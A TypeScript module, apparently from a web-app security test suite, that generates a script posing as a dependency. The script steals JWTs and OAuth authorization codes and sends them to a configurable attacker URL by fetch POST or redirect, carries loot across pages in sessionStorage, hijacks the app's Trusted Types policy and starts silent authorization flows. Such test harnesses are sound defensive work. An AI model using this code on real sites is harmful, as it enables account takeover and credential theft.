import type { Attack, Facts, Injected, Payload } from "./attack.js";

declare global {
  /** The attacker's script in a page of the app. */
  var attacker: {
    /** Runs a payload to its end, or until it has had long enough. */
    run(name: string): Promise<string>;
    /** How the last payload ended, if it has. */
    ending: string | undefined;
    /** Sends what could not be sent at once. */
    flush(): Promise<void>;
    /** What script of another document of the same origin hands over. */
    take(name: string, candidates: string[]): void;
  };
}

/** Where a page of a victim has the attacker's script: beside the app's own, as a dependency is. */
export const INJECTED_SCRIPT = "/assets/dependency.js";

/** How long a payload may take, in milliseconds. */
const PAYLOAD_TIME = 9_000;

/**
 * The text of a script that the app has taken in with a dependency. `hooks` run in every document before the app;
 * the payloads wait until the driver starts them. `createsPolicy`: the script runs first, and creates the Trusted Types
 * policy of the page.
 */
export function injectedScript(
  facts: Facts,
  attacks: readonly Attack[],
  hooks: ReadonlySet<string>,
  createsPolicy: boolean,
): string {
  const payloads = attacks.flatMap(({ name, payload }) => (payload ? [entry(name, payload)] : []));
  const early = attacks.flatMap(({ name, hook }) => (hook && hooks.has(name) ? [entry(name, hook)] : []));
  return `(() => {
    // esbuild wraps the functions it names in this helper; in the page it has nothing to do.
    const __name = (named) => named;
    (${install.toString()})(${JSON.stringify(facts)}, {${payloads.join(",\n")}}, {${early.join(",\n")}}, ${PAYLOAD_TIME}, ${createsPolicy});
  })();`;
}

function entry(name: string, payload: Payload): string {
  // The test runner has put a function of its own in the place of `import()`.
  const text = payload.toString().replaceAll("__vite_ssr_dynamic_import__(", "import(");
  // A method is no expression by itself.
  const method = /^(?:async\s+)?(hook|payload)\s*\(/.exec(text)?.[1];
  return `${JSON.stringify(name)}: ${method ? `({ ${text} }).${method}` : text}`;
}

/** Runs in the page, before anything else. It keeps what it needs of the page's globals, so that no hook meets it. */
function install(
  facts: Facts,
  payloads: Record<string, Payload>,
  hooks: Record<string, Payload>,
  payloadTime: number,
  createsPolicy: boolean,
): void {
  const {
    fetch,
    setTimeout,
    sessionStorage,
    history,
    JSON: json,
    Promise: Pledge,
    trustedTypes,
  } = globalThis as typeof globalThis & {
    trustedTypes?: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
  };
  const pause = (milliseconds: number) =>
    new Pledge<void>((resolve) => setTimeout(() => resolve(), milliseconds));

  /** Sent and waiting, by attack. */
  const seen = new Set<string>();
  const waiting: [string, string][] = [];
  let stealing = false;
  let sending: Promise<void> | undefined;

  const take = (name: string, candidates: string[]) => {
    for (const candidate of candidates) {
      if (seen.has(`${name} ${candidate}`)) continue;
      seen.add(`${name} ${candidate}`);
      waiting.push([name, candidate]);
    }
    if (waiting.length > 0) sending ??= pause(20).then(send);
  };

  /** What looks like a JWT, an authorization code in a URL or in JSON, or a random value. */
  const candidatesIn = (text: string): string[] => {
    const tokens = text.match(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+|[\w-]{43,}/g) ?? [];
    const codes = text.match(/\bcode(?:=|":")[\w-]+/g) ?? [];
    return [...codes.map((code) => code.replace('":"', "=")), ...tokens];
  };

  /** A page whose policy forbids the request can still be told to go somewhere; a 204 leaves it where it is. */
  let blocked = false;
  const send = async () => {
    sending = undefined;
    if (blocked || waiting.length === 0) return;
    const batch = waiting.splice(0);
    stealing = true;
    const body = json.stringify(batch);
    stealing = false;
    try {
      await fetch(`${facts.attackerUrl}/loot`, {
        method: "POST",
        mode: "no-cors",
        keepalive: true,
        body,
      });
    } catch {
      blocked = true;
      waiting.unshift(...batch);
    }
  };
  const flush = async () => {
    await (sending ?? send());
    if (!blocked) return;
    if (top !== window) {
      for (const [name, candidate] of waiting.splice(0))
        (top as typeof globalThis | null)?.attacker.take(name, [candidate]);
      return;
    }
    while (waiting.length > 0) {
      // A URL that is too long is refused by the server.
      const batch: [string, string][] = [];
      for (let length = 0; waiting[0] && length < 10_000; length += waiting[0]?.[1].length ?? 0) {
        batch.push(waiting.shift() as [string, string]);
      }
      // What stealing itself calls may be hooked.
      stealing = true;
      location.href = `${facts.attackerUrl}/loot?${new URLSearchParams({ loot: json.stringify(batch) })}`;
      stealing = false;
      await pause(250);
    }
  };
  // What waits goes on to the next document of the tab.
  const luggage = "luggage";
  const carried = sessionStorage.getItem(luggage);
  if (carried !== null) {
    sessionStorage.removeItem(luggage);
    waiting.push(...(json.parse(carried) as [string, string][]));
  }
  addEventListener("pagehide", () => {
    if (waiting.length > 0) sessionStorage.setItem(luggage, json.stringify(waiting));
  });

  // The first script of a page can make the one policy the app's headers allow, and lend it to the app.
  let policy: { createScriptURL(url: string): string } | undefined;
  if (trustedTypes && createsPolicy) {
    const rules = { createScriptURL: (url: string) => url, createHTML: (html: string) => html };
    try {
      const created = trustedTypes.createPolicy("strongroom", rules);
      policy = created;
      const { createPolicy } = trustedTypes;
      trustedTypes.createPolicy = (name, own) =>
        name === "strongroom" ? created : createPolicy.call(trustedTypes, name, own);
    } catch {
      // Another document's script was first.
    }
  }

  const slugOf = (name: string) => name.toLowerCase().replace(/\W+/g, "-");
  const toolsOf = (name: string): Injected => ({
    ...facts,
    attackerUrl: `${facts.attackerUrl}/${slugOf(name)}`,
    siblingUrl: `${facts.siblingUrl}/${slugOf(name)}`,
    pause,
    scriptUrl: (url) => (policy ? policy.createScriptURL(url) : url),
    steal(...values) {
      if (stealing) return;
      stealing = true;
      try {
        for (const value of values) {
          const text =
            typeof value === "string" ? value : value instanceof URL ? value.href : json.stringify(value);
          if (text) take(name, candidatesIn(text));
        }
      } catch {
        // A value that JSON cannot hold has no text.
      } finally {
        stealing = false;
      }
    },
    authorizationUrl(parameters = {}) {
      const query = new URLSearchParams({
        response_type: "code",
        client_id: facts.clientId,
        redirect_uri: facts.redirectUri,
        scope: facts.scope,
        state: `attack.${slugOf(name)}`,
        nonce: "attack",
        code_challenge: facts.codeChallenge,
        code_challenge_method: "S256",
        prompt: "none",
        ...parameters,
      });
      return `${facts.authorizationEndpoint}?${query}`;
    },
  });

  Object.defineProperty(globalThis, "attacker", {
    value: {
      take,
      flush,
      ending: undefined,
      async run(name: string) {
        const payload = payloads[name];
        if (!payload) return "there is no such payload";
        const outcome = (async () => {
          try {
            await payload(toolsOf(name));
            return "ran";
          } catch (error) {
            return `threw ${error}`;
          }
        })();
        attacker.ending = undefined;
        const ending = await Pledge.race([outcome, pause(payloadTime).then(() => "had its time")]);
        attacker.ending = ending;
        return ending;
      },
    },
  });

  // A flow that the attacker began in a frame, a popup or a tab has come back, if this document is where it ends.
  const arrived = /[?&#]state=attack\.([\w-]+)/.exec(location.href);
  if (arrived?.[1]) {
    toolsOf(arrived[1]).steal(location.href);
    void flush();
    history.replaceState(history.state, "", location.pathname);
  }
  for (const [name, hook] of Object.entries(hooks)) hook(toolsOf(name));
}
